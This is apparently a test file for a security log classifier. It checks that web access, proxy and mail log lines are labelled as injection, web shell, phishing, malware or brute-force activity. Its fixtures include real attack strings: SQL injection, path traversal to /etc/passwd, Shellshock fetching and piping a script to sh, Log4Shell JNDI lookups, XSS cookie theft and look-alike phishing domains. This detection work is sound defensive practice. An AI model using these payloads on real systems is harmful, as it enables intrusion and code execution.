/**
 * Web server, proxy and mail packs on lines written in the real formats: Apache/nginx combined access
 * logs, Apache and nginx error logs, Squid native access logs, Postfix/amavis/Dovecot/OpenDMARC syslog,
 * and JSON records with url and user-agent fields.
 */
import { describe, expect, it } from 'vitest';
import { expectHarmless, expectNotCategory, expectTop, matches } from './helpers.js';

const access = (request: string, status = 200, agent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36') =>
  `203.0.113.9 - - [12/Mar/2024:10:00:01 +0000] "${request}" ${status} 5120 "-" "${agent}"`;
const squid = (url: string, method = 'GET', type = 'text/html') =>
  `1710237601.123    812 10.0.0.23 TCP_MISS/200 18342 ${method} ${url} - HIER_DIRECT/198.51.100.80 ${type}`;
const postfix = (daemon: string, message: string) => `Mar 12 10:00:01 mx1 postfix/${daemon}[2222]: ${message}`;

describe('web server access and error logs', () => {
  it('files scanner user agents as suspicious access', () => {
    for (const agent of ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 zgrab/0.x', 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'gobuster/3.6', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)']) {
      expectTop(access('GET / HTTP/1.1', 200, agent), 'SUSPICIOUS_ACCESS', 'web-scanner-user-agent');
    }
    expectTop({ '@timestamp': '2024-03-12T10:00:01Z', url: { original: '/login' }, user_agent: { original: 'sqlmap/1.8' }, source: { ip: '203.0.113.9' }, http: { request: { method: 'GET' } } }, 'SUSPICIOUS_ACCESS', 'web-scanner-user-agent');
  });

  it('files SQL injection in any encoding as suspicious access', () => {
    for (const request of [
      'GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1',
      'GET /products.php?id=1+union+all+select+1,2,3 HTTP/1.1',
      "GET /login.php?user=admin%27%20or%20%271%27%3D%271 HTTP/1.1",
      "GET /item?id=1'%20or%201=1-- HTTP/1.1",
      'GET /item?id=1%20AND%20SLEEP(5) HTTP/1.1',
      'GET /news?id=-1%20and%20extractvalue(1,concat(0x7e,version())) HTTP/1.1',
      'GET /list?cat=1%20union%20select%20table_name%20from%20information_schema.tables HTTP/1.1',
      "GET /q?id=1;WAITFOR%20DELAY%20'0:0:5'-- HTTP/1.1",
    ]) {
      expectTop(access(request), 'SUSPICIOUS_ACCESS', 'web-sql-injection');
    }
  });

  it('files path traversal and file inclusion as suspicious access', () => {
    for (const request of [
      'GET /download.php?file=../../../../etc/passwd HTTP/1.1',
      'GET /static/%2e%2e/%2e%2e/%2e%2e/etc/shadow HTTP/1.1',
      'GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1',
      'GET /page.php?f=%252e%252e%252f%252e%252e%252fwindows/win.ini HTTP/1.1',
      'GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1',
    ]) {
      expectTop(access(request, 400), 'SUSPICIOUS_ACCESS', 'web-path-traversal');
    }
    expectTop('2024/03/12 10:00:01 [error] 1201#1201: *88 open() "/usr/share/nginx/html/etc/passwd" failed (2: No such file or directory), client: 203.0.113.9, server: _, request: "GET /../../etc/passwd HTTP/1.1", host: "192.0.2.10"', 'SUSPICIOUS_ACCESS', 'web-path-traversal');
  });

  it('files web shells as MALWARE, and probes for them that got 404 as suspicious access', () => {
    expectTop(access('GET /uploads/shell.php?cmd=whoami HTTP/1.1'), 'MALWARE', 'web-shell-access');
    expectTop(access('POST /wp-content/uploads/2024/03/c99.php HTTP/1.1'), 'MALWARE', 'web-shell-access');
    expectTop(access('GET /images/r57.php HTTP/1.1'), 'MALWARE', 'web-shell-access');
    expectTop(access('GET /x.php?c=eval(base64_decode($_POST[z])) HTTP/1.1'), 'MALWARE', 'web-shell-access');
    expectTop(access('GET /wso.php HTTP/1.1', 404), 'SUSPICIOUS_ACCESS', 'web-shell-probe');
    expectNotCategory(access('GET /wso.php HTTP/1.1', 404), 'MALWARE');
  });

  it('files command injection, Shellshock, Log4Shell, XSS and secret probes', () => {
    expectTop(access('GET /cgi-bin/status HTTP/1.1', 200, "() { :; }; /bin/bash -c 'curl http://203.0.113.9/x|sh'"), 'SUSPICIOUS_ACCESS', 'web-command-injection');
    expectTop(access('GET /?q=${jndi:ldap://203.0.113.9:1389/Exploit} HTTP/1.1'), 'SUSPICIOUS_ACCESS', 'web-command-injection');
    expectTop(access('GET /ping.php?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1'), 'SUSPICIOUS_ACCESS');
    expectTop(access('GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1'), 'SUSPICIOUS_ACCESS', 'web-xss');
    expectTop(access('GET /.env HTTP/1.1', 404), 'SUSPICIOUS_ACCESS', 'web-sensitive-file-probe');
    expectTop(access('GET /.git/config HTTP/1.1', 200), 'SUSPICIOUS_ACCESS', 'web-sensitive-file-probe');
    expectTop(access('POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404), 'SUSPICIOUS_ACCESS', 'web-sensitive-file-probe');
    expectTop('203.0.113.9 - - [12/Mar/2024:10:00:01 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" 400 226 "-" "-"', 'SUSPICIOUS_ACCESS', 'web-binary-request');
  });

  it('files ModSecurity blocks and basic-auth failures', () => {
    expectTop('[Tue Mar 12 10:00:01.123456 2024] [security2:error] [pid 1234:tid 140] [client 203.0.113.9:51234] [client 203.0.113.9] ModSecurity: Access denied with code 403 (phase 2). Matched "Operator `Ge\' with parameter `5\' against variable `TX:ANOMALY_SCORE\'" [file "/etc/modsecurity/crs/REQUEST-949-BLOCKING-EVALUATION.conf"] [id "949110"] [msg "Inbound Anomaly Score Exceeded (Total Score: 10)"] [hostname "www.example.com"] [uri "/login"]', 'SUSPICIOUS_ACCESS', 'web-modsecurity-block');
    const auth = expectTop('[Tue Mar 12 10:00:01.123456 2024] [auth_basic:error] [pid 1234:tid 140] [client 203.0.113.9:51234] AH01617: user admin: authentication failure for "/admin": Password Mismatch', 'BRUTE_FORCE', 'web-basic-auth-failure');
    expect(auth.signals).toEqual(['AUTH_FAILURE']);
    expectTop('2024/03/12 10:00:01 [error] 1201#1201: *90 user "admin": password mismatch, client: 203.0.113.9, server: intranet, request: "GET /admin HTTP/1.1", host: "intranet.example.com"', 'BRUTE_FORCE', 'web-basic-auth-failure');
  });

  it('near miss: normal requests do not fire', () => {
    expect(matches(access('GET /index.html HTTP/1.1'))).toEqual([]);
    expect(matches(access('GET /search?q=how+to+select+a+union+rep&page=2 HTTP/1.1'))).toEqual([]);
    expect(matches(access('GET /wp-login.php HTTP/1.1'))).toEqual([]);
    expect(matches(access('GET /assets/app.js?v=1.2.3 HTTP/2.0', 304))).toEqual([]);
    expect(matches(access('POST /api/orders HTTP/1.1', 201, 'python-requests/2.31.0'))).toEqual([]);
    expect(matches(access('GET /docs/nmap-guide.html HTTP/1.1'))).toEqual([]);
  });
});

describe('proxy logs and phishing URLs', () => {
  it('files look-alike brand domains as PHISHING', () => {
    expectTop(squid('http://paypa1-secure-login.com/account-update/verify'), 'PHISHING', 'phish-lookalike-paypal');
    expectTop(squid('https://www.paypal.com.account-review.xyz/signin'), 'PHISHING', 'phish-lookalike-paypal');
    expectTop(squid('https://rnicrosoft-online.com/common/oauth2/login'), 'PHISHING', 'phish-lookalike-microsoft');
    expectTop(squid('https://login.micros0ft-support.net/'), 'PHISHING', 'phish-lookalike-microsoft');
    expectTop(squid('https://login.microsoftonline.com.secure-auth.top/'), 'PHISHING', 'phish-lookalike-microsoft');
    expectTop(squid('https://appleid-verify.help/locked'), 'PHISHING', 'phish-lookalike-apple-google-amazon');
    expectTop(squid('https://arnazon-billing.info/update'), 'PHISHING', 'phish-lookalike-apple-google-amazon');
    expectTop(squid('https://faceb00k-security.com/recover'), 'PHISHING', 'phish-lookalike-social-and-services');
    expectTop(squid('https://dhl-parcel-fee.top/pay'), 'PHISHING', 'phish-lookalike-delivery');
  });

  it('files credential pages in WordPress folders, on bare IPs, free hosting and cheap TLDs as PHISHING', () => {
    expectTop(squid('http://bakery-blog.example/wp-admin/login.php'), 'PHISHING', 'phish-wordpress-kit-path');
    expectTop(squid('http://bakery-blog.example/wp-content/plugins/x/office365/verify.html'), 'PHISHING', 'phish-wordpress-kit-path');
    expectTop(squid('http://203.0.113.8/owa/auth/login.php'), 'PHISHING', 'phish-credential-page-on-ip');
    expectTop(squid('https://secure-docs-4471.web.app/sharepoint/login.html'), 'PHISHING', 'phish-credential-page-on-free-hosting');
    expectTop(squid('https://cloudflare-ipfs.com/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/outlook.html'), 'PHISHING', 'phish-credential-page-on-free-hosting');
    expectTop(squid('https://mail-portal.click/account/verify'), 'PHISHING', 'phish-credential-page-on-cheap-tld');
  });

  it('reads proxy categories from JSON and CEF records', () => {
    expectTop({ time: '2024-03-12T10:00:01Z', user: 'bob', url: 'http://free-gift.example/claim', urlcategory: 'Phishing and Fraud', action: 'blocked', src_ip: '10.0.0.23' }, 'PHISHING', 'proxy-category-phishing');
    expectTop({ time: '2024-03-12T10:00:01Z', user: 'bob', url: 'http://dl.example/x.bin', urlcategory: 'Malware Sites', action: 'blocked', src_ip: '10.0.0.23' }, 'MALWARE', 'proxy-category-malware');
    expectTop({ time: '2024-03-12T10:00:01Z', user: 'bob', url: 'http://198.51.100.80/gate.php', category: 'Botnets', action: 'blocked', src_ip: '10.0.0.23' }, 'BEACONING', 'proxy-category-c2');
  });

  it('files executables fetched from bare public IPs as MALWARE', () => {
    expectTop(squid('http://203.0.113.8/bins/x86.exe', 'GET', 'application/octet-stream'), 'MALWARE', 'proxy-executable-from-ip');
    expect(matches(squid('http://10.0.0.5/tools/agent.msi', 'GET', 'application/octet-stream')).map((m) => m.category)).toEqual(['BENIGN']);
  });

  it('near miss: legitimate paypal.com, microsoft.com and CDN links are not phishing', () => {
    for (const url of ['https://www.paypal.com/signin', 'https://www.paypal.com/myaccount/summary', 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize', 'https://appleid.apple.com/sign-in', 'https://www.paypal.com.au/signin', 'https://www.amazon.co.uk/ap/signin']) {
      const found = expectHarmless(squid(url));
      expect(found.map((m) => m.ruleId)).toEqual(['proxy-request']);
      expect(found[0]?.signals).toEqual(['NETWORK_CONNECTION']);
    }
    expectHarmless('Mar 12 10:00:01 gw dnsmasq[612]: query[A] www.microsoft.com-c-3.edgekey.net from 10.0.0.23');
  });
});

describe('mail', () => {
  it('files blocklist and content-filter spam rejects as low-confidence PHISHING', () => {
    const rbl = expectTop(postfix('smtpd', 'NOQUEUE: reject: RCPT from unknown[203.0.113.7]: 554 5.7.1 Service unavailable; Client host [203.0.113.7] blocked using zen.spamhaus.org; https://www.spamhaus.org/query/ip/203.0.113.7; from=<invoice@billing-example.top> to=<bob@example.com> proto=ESMTP helo=<mail.billing-example.top>'), 'PHISHING', 'mail-rbl-reject');
    expect(rbl.severity).toBe('LOW');
    expectTop(postfix('cleanup', '4Vx3Yk2QzNz1: milter-reject: END-OF-MESSAGE from unknown[203.0.113.7]: 5.7.1 Spam message rejected; from=<a@b.example> to=<bob@example.com> proto=ESMTP helo=<x>'), 'PHISHING', 'mail-spam-rejected');
    expectTop('Mar 12 10:00:01 mx1 sendmail[3120]: ruleset=check_relay, arg1=unknown, arg2=203.0.113.7, relay=[203.0.113.7], reject=550 5.7.1 Rejected: 203.0.113.7 listed at zen.spamhaus.org', 'PHISHING', 'mail-rbl-reject');
    expectTop(postfix('smtpd', 'NOQUEUE: reject: RCPT from unknown[203.0.113.7]: 504 5.5.2 <localhost>: Helo command rejected: need fully-qualified hostname; from=<x@y.example> to=<bob@example.com> proto=ESMTP helo=<localhost>'), 'PHISHING', 'mail-spambot-hygiene-reject');
  });

  it('files phishing verdicts and spoofed mail with links as PHISHING', () => {
    expectTop('Mar 12 10:00:01 mx1 amavis[4410]: (04410-07) Blocked SPAM {DiscardedInbound,Quarantined}, [203.0.113.7]:41234 <a@b.example> -> <bob@example.com>, Queue-ID: 4Vx3, Hits: 18.2', 'PHISHING', 'mail-spam-rejected');
    expectTop({ timestamp: '2024-03-12T10:00:01Z', sender: 'security@paypal.com', recipient: 'bob@example.com', subject: 'Your account is limited', authentication_results: 'mx1.example.com; spf=fail smtp.mailfrom=paypal.com; dkim=none; dmarc=fail header.from=paypal.com', urls: ['http://paypa1-resolution.example/login'], verdict: 'delivered' }, 'PHISHING');
    expectTop({ timestamp: '2024-03-12T10:00:01Z', sender: 'ceo@example.com', recipient: 'bob@example.com', authentication_results: 'spf=softfail smtp.mailfrom=example.com; dmarc=fail', url: 'https://docs-share.example.net/view' }, 'PHISHING', 'mail-auth-fail-with-link');
    expectTop('Mar 12 10:00:01 mx1 opendmarc[811]: 4Vx3Yk2QzNz1: paypal.com fail', 'PHISHING', 'mail-opendmarc-fail');
  });

  it('files malware found in mail as MALWARE', () => {
    expectTop('Mar 12 10:00:01 mx1 amavis[4410]: (04410-08) Blocked INFECTED (Win.Trojan.Agent-1234) {DiscardedInbound,Quarantined}, [203.0.113.7]:41234 <a@b.example> -> <bob@example.com>, Queue-ID: 4Vx4', 'MALWARE');
    expectTop('Mar 12 10:00:01 mx1 clamav-milter[812]: Message 4Vx5 from <a@b.example> to <bob@example.com> with subject \'Invoice\' message-id \'<x@b.example>\' date \'Tue, 12 Mar 2024 10:00:00 +0000\' infected by Doc.Dropper.Agent-7363592-0', 'MALWARE', 'clamav-milter-infected');
  });

  it('files SMTP AUTH and IMAP login failures as brute force', () => {
    const sasl = expectTop(postfix('smtpd', 'warning: unknown[203.0.113.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6'), 'BRUTE_FORCE', 'mail-sasl-auth-failed');
    expect(sasl.signals).toEqual(['AUTH_FAILURE']);
    expectTop('Mar 12 10:00:01 mx1 dovecot: imap-login: Disconnected (auth failed, 3 attempts in 14 secs): user=<bob>, method=PLAIN, rip=203.0.113.7, lip=192.0.2.25, TLS, session=<x>', 'BRUTE_FORCE', 'mail-sasl-auth-failed');
  });

  it('near miss: delivered mail is BENIGN', () => {
    expectHarmless(postfix('smtp', '4Vx3Yk2QzNz1: to=<carol@example.org>, relay=mx.example.org[198.51.100.3]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as 9B1C2)'));
    expect(matches(postfix('qmgr', '4Vx3Yk2QzNz1: from=<bob@example.com>, size=2048, nrcpt=1 (queue active)'))).toEqual([]);
  });
});
